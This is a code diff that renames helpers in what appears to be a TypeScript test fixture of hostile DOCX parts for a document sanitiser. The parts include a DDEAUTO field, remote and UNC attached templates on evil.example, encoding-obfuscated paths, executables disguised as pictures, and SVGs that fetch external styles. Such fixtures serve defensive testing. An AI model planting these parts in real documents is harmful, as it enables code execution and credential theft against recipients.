@@ -6,51 +6,51 @@ import { METAFILES } from './metafiles.ts';
 const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
 
-const relationships = (type: string, target: string, mode = 'TargetMode="External"') =>
+const relationshipsPart = (type: string, target: string, mode = 'TargetMode="External"') =>
   `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${type}" Target="${target}" ${mode}/></Relationships>`;
-const types = (overrides: string) =>
+const contentTypes = (overrides: string) =>
   `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${WORD}.document.main+xml"/>${overrides}</Types>`;
 const DDE = '<w:document><w:body><w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p></w:body></w:document>';
-const svg = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;
+const svgWith = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;
 
 /** Parts that are added to a good DOCX, or replace one of its own. */
 export const ACTING_DOCX_PARTS: Readonly<Record<string, Readonly<Record<string, Part | string>>>> = {
   'another main part, named as a picture': {
-    '[Content_Types].xml': types(
+    '[Content_Types].xml': contentTypes(
       `<Override PartName="/word/a.png" ContentType="${WORD}.document.main+xml"/>`,
     ),
-    '_rels/.rels': relationships(`${OFFICE}/officeDocument`, 'word/a.png', ''),
+    '_rels/.rels': relationshipsPart(`${OFFICE}/officeDocument`, 'word/a.png', ''),
     'word/a.png': DDE,
   },
   'another main part, named as relationships': {
-    '[Content_Types].xml': types(
+    '[Content_Types].xml': contentTypes(
       `<Override PartName="/word/a.rels" ContentType="${WORD}.document.main+xml"/>`,
     ),
-    '_rels/.rels': relationships(`${OFFICE}/officeDocument`, 'word/a.rels', ''),
+    '_rels/.rels': relationshipsPart(`${OFFICE}/officeDocument`, 'word/a.rels', ''),
     'word/a.rels': DDE,
   },
   'pictures that are documents by default': {
-    '[Content_Types].xml': types(`<Default Extension="png" ContentType="${WORD}.document.main+xml"/>`),
+    '[Content_Types].xml': contentTypes(`<Default Extension="png" ContentType="${WORD}.document.main+xml"/>`),
     'word/a.png': `\n${DDE}`,
   },
   'macros by its type': {
-    '[Content_Types].xml': types(
+    '[Content_Types].xml': contentTypes(
       '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
     ),
   },
   'a page named as a picture': { 'word/media/a.png': '<!doctype html><script>x</script>' },
   'a program named as a picture': { 'word/media/a.png': 'MZ\x90\0' },
   'a link to a program beside it': {
-    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, 'setup.exe'),
+    'word/_rels/document.xml.rels': relationshipsPart(`${OFFICE}/hyperlink`, 'setup.exe'),
   },
   'a link to a program beside it, within the package': {
-    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, 'setup.exe', ''),
+    'word/_rels/document.xml.rels': relationshipsPart(`${OFFICE}/hyperlink`, 'setup.exe', ''),
   },
   'a link to a program in a folder beside it': {
-    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, 'ana.example/setup.exe'),
+    'word/_rels/document.xml.rels': relationshipsPart(`${OFFICE}/hyperlink`, 'ana.example/setup.exe'),
   },
   'a link to a program above it': {
-    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, '..%5Csetup.exe'),
+    'word/_rels/document.xml.rels': relationshipsPart(`${OFFICE}/hyperlink`, '..%5Csetup.exe'),
   },
   'a drawing of Windows': { 'word/media/image1.emf': METAFILES.emf },
   'an old drawing of Windows': { 'word/media/image1.wmf': METAFILES.placeableWmf },
@@ -64,42 +64,48 @@ export const ACTING_DOCX_PARTS: Readonly<Record<string, Readonly<Record<string, 
     'docProps/app.xml': '<Properties><HyperlinkBase><x/>file://evil.example/a</HyperlinkBase></Properties>',
   },
   'a main part under two names': {
-    '[Content_Types].xml': types(
+    '[Content_Types].xml': contentTypes(
       `<Override PartName="/word/a.odttf" x:PartName="/word/a.xml" ContentType="${WORD}.document.main+xml"/>`,
     ),
   },
   'a main part whose name is written in figures': {
-    '[Content_Types].xml': types(
+    '[Content_Types].xml': contentTypes(
       `<Override PartName="/word/a.odtt%66" ContentType="${WORD}.document.main+xml"/>`,
     ),
   },
   'relationships of another case': {
-    'word/_rels/Document.xml.rels': relationships(`${OFFICE}/hyperlink`, 'https://evil.example/a'),
+    'word/_rels/Document.xml.rels': relationshipsPart(`${OFFICE}/hyperlink`, 'https://evil.example/a'),
     'word/_rels/document.xml.rels': '<Relationships/>',
   },
   'a template on a share': {
-    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:///\\\\evil\\a.dotx'),
+    'word/_rels/settings.xml.rels': relationshipsPart(
+      `${OFFICE}/attachedTemplate`,
+      'file:///\\\\evil\\a.dotx',
+    ),
   },
   'a template on a share, by slashes': {
-    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:////evil/a.dotx'),
+    'word/_rels/settings.xml.rels': relationshipsPart(`${OFFICE}/attachedTemplate`, 'file:////evil/a.dotx'),
   },
   'a template on a share, written in figures': {
-    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:///%5C%5Cevil/a.dotx'),
+    'word/_rels/settings.xml.rels': relationshipsPart(
+      `${OFFICE}/attachedTemplate`,
+      'file:///%5C%5Cevil/a.dotx',
+    ),
   },
   'a template from the web': {
-    'word/_rels/settings.xml.rels': relationships(
+    'word/_rels/settings.xml.rels': relationshipsPart(
       `${OFFICE}/attachedTemplate`,
       'https://evil.example/a.dotx',
     ),
   },
   'a template above its folder': {
-    'word/_rels/settings.xml.rels': relationships(
+    'word/_rels/settings.xml.rels': relationshipsPart(
       `${OFFICE}/attachedTemplate`,
       'file:///C:\\..\\UNC\\evil\\a.dotx',
     ),
   },
   'a template with macros': {
-    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:///C:\\a.dotm'),
+    'word/_rels/settings.xml.rels': relationshipsPart(`${OFFICE}/attachedTemplate`, 'file:///C:\\a.dotm'),
   },
   'a sheet of another format at its head': {
     'word/settings.xml':
@@ -136,7 +142,7 @@ export const ACTING_DOCX_PARTS: Readonly<Record<string, Readonly<Record<string, 
       '<we:webextension id="a"><we:reference id="wa1" store="https://evil.example" storeType="Registry"/></we:webextension>',
   },
   'an add-in by its type': {
-    '[Content_Types].xml': types(
+    '[Content_Types].xml': contentTypes(
       '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.webextension+xml"/>',
     ),
   },
@@ -145,66 +151,75 @@ export const ACTING_DOCX_PARTS: Readonly<Record<string, Readonly<Record<string, 
     'customUI/customUI.xml': '<customUI onLoad="x"><ribbon/></customUI>',
   },
   'a template on a share, written in figures twice': {
-    'word/_rels/settings.xml.rels': relationships(
+    'word/_rels/settings.xml.rels': relationshipsPart(
       `${OFFICE}/attachedTemplate`,
       'file:///%255C%255Cevil/a.dotx',
     ),
   },
   'a template whose share is written in figures twice': {
-    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, '%255c%255cevil%255ca.dotx'),
+    'word/_rels/settings.xml.rels': relationshipsPart(
+      `${OFFICE}/attachedTemplate`,
+      '%255c%255cevil%255ca.dotx',
+    ),
   },
   'a template whose scheme is written in figures twice': {
-    'word/_rels/settings.xml.rels': relationships(
+    'word/_rels/settings.xml.rels': relationshipsPart(
       `${OFFICE}/attachedTemplate`,
       '%2566ile:%252f%252fevil/a.dotx',
     ),
   },
   'a template whose scheme is written in figures three times': {
-    'word/_rels/settings.xml.rels': relationships(
+    'word/_rels/settings.xml.rels': relationshipsPart(
       `${OFFICE}/attachedTemplate`,
       '%252566ile%25253a%25252f%25252fevil/a.dotx',
     ),
   },
   'a template on a share, in figures that nobody can read': {
-    'word/_rels/settings.xml.rels': relationships(
+    'word/_rels/settings.xml.rels': relationshipsPart(
       `${OFFICE}/attachedTemplate`,
       'file:///%5C%5Cevil/%E9%zz/a.dotx',
     ),
   },
   'a template whose scheme ends a line': {
-    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, '%0a%5c%5cevil%5ca.dotx'),
+    'word/_rels/settings.xml.rels': relationshipsPart(`${OFFICE}/attachedTemplate`, '%0a%5c%5cevil%5ca.dotx'),
   },
   'a picture whose share is written in figures': {
-    'word/_rels/document.xml.rels': relationships(`${OFFICE}/image`, '%5c%5cevil/a.png', ''),
+    'word/_rels/document.xml.rels': relationshipsPart(`${OFFICE}/image`, '%5c%5cevil/a.png', ''),
   },
   'a picture whose scheme has the end of a line in it': {
-    'word/_rels/document.xml.rels': relationships(`${OFFICE}/image`, 'ht&#10;tp://evil.example/a.png', ''),
+    'word/_rels/document.xml.rels': relationshipsPart(
+      `${OFFICE}/image`,
+      'ht&#10;tp://evil.example/a.png',
+      '',
+    ),
   },
   'links that another list brings': {
     'docProps/app.xml':
       '<Properties><HLinks><vt:vector><vt:variant><vt:lpwstr>file://evil.example/a</vt:lpwstr></vt:variant></vt:vector></HLinks></Properties>',
   },
-  'a drawing with a page in it': { 'word/media/a.svg': svg('<foreignObject/>') },
-  'a drawing that changes its links': { 'word/media/a.svg': svg('<set attributeName="href" to="x"/>') },
-  'a drawing whose style fetches': { 'word/media/a.svg': svg('<style>@import "//evil.example/a"</style>') },
+  'a drawing with a page in it': { 'word/media/a.svg': svgWith('<foreignObject/>') },
+  'a drawing that changes its links': { 'word/media/a.svg': svgWith('<set attributeName="href" to="x"/>') },
+  'a drawing whose style fetches': {
+    'word/media/a.svg': svgWith('<style>@import "//evil.example/a"</style>'),
+  },
   'a drawing whose style fetches behind an element': {
-    'word/media/a.svg': svg('<style><title/>@import url(https://evil.example/a)</style>'),
+    'word/media/a.svg': svgWith('<style><title/>@import url(https://evil.example/a)</style>'),
   },
   'a drawing whose style fetches inside an element': {
-    'word/media/a.svg': svg('<style><title>@import url(https://evil.example/a)</title></style>'),
+    'word/media/a.svg': svgWith('<style><title>@import url(https://evil.example/a)</title></style>'),
   },
   'a drawing with an address under two prefixes': {
-    'word/media/a.svg': svg('<use xlink:href="https://evil.example/a#b" href="#a"/>'),
+    'word/media/a.svg': svgWith('<use xlink:href="https://evil.example/a#b" href="#a"/>'),
   },
   'a drawing whose colour fetches': {
-    'word/media/a.svg': svg('<rect style="fill:url(https://evil.example/a#b)"/>'),
+    'word/media/a.svg': svgWith('<rect style="fill:url(https://evil.example/a#b)"/>'),
   },
   'a drawing whose colour fetches, written in figures': {
-    'word/media/a.svg': svg('<rect style="fill:u\\72l(https://evil.example/a#b)"/>'),
+    'word/media/a.svg': svgWith('<rect style="fill:u\\72l(https://evil.example/a#b)"/>'),
   },
-  'a drawing with a base': { 'word/media/a.svg': svg('<g xml:base="https://evil.example"/>') },
+  'a drawing with a base': { 'word/media/a.svg': svgWith('<g xml:base="https://evil.example"/>') },
   'a drawing that holds a drawing': {
-    'word/media/a.svg': svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
+    'word/media/a.svg': svgWith('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
   },
-  'a drawing that uses another file': { 'word/media/a.svg': svg('<use href="a.svg#b"/>') },
+  'a drawing that uses another file': { 'word/media/a.svg': svgWith('<use href="a.svg#b"/>') },
 };
